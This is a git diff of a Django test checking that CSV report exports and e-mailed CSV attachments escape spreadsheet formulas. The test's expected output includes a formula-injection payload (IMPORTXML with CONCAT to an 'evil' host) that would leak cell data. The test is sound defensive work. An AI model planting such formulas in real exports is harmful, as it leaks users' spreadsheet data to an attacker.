@@ -11,7 +11,7 @@ from django.urls import reverse
 
 from leads import services as lead_services
 from leads.models import CaptureForm, Lead
-from reporting.emails import report_csv as emailed_report_csv
+from reporting.exports import report_export
 from reporting.services import report_compute
 from slas.models import SLA
 from slas.tests.factories import make_sla
@@ -66,7 +66,9 @@ def test_the_report_csv_and_the_e_mailed_csv_neutralise_the_sla_title_and_values
     lead_services.lead_create(data={"email": "r@example.com"}, team=roles.marketing, by=roles.mkt_member)
     report = report_compute(sla=SLA.objects.get(pk=sla.pk), month=dt.date(2026, 3, 1))
     client.force_login(roles.viewer)
-    cells = _cells(client.get(reverse("reporting:report_csv", args=[report.pk])).content)
+    page = client.get(reverse("reporting:report_csv", args=[report.pk]), {"table": "summary", "sep": "comma"})
+    cells = _cells(page.content.decode("utf-8-sig").encode())
     assert '\'=IMPORTXML(CONCAT("http://evil/",A1),"//a")' in cells
-    report.data["commitments"][0]["key"] = "=1+1"
-    assert "'=1+1" in _cells(emailed_report_csv(report).encode())
+    # The e-mailed attachment is the same export (``reporting.exports``).
+    emailed = report_export(report, "csv", table="summary", params={"sep": "comma"}).content
+    assert '\'=IMPORTXML(CONCAT("http://evil/",A1),"//a")' in _cells(emailed.decode("utf-8-sig").encode())
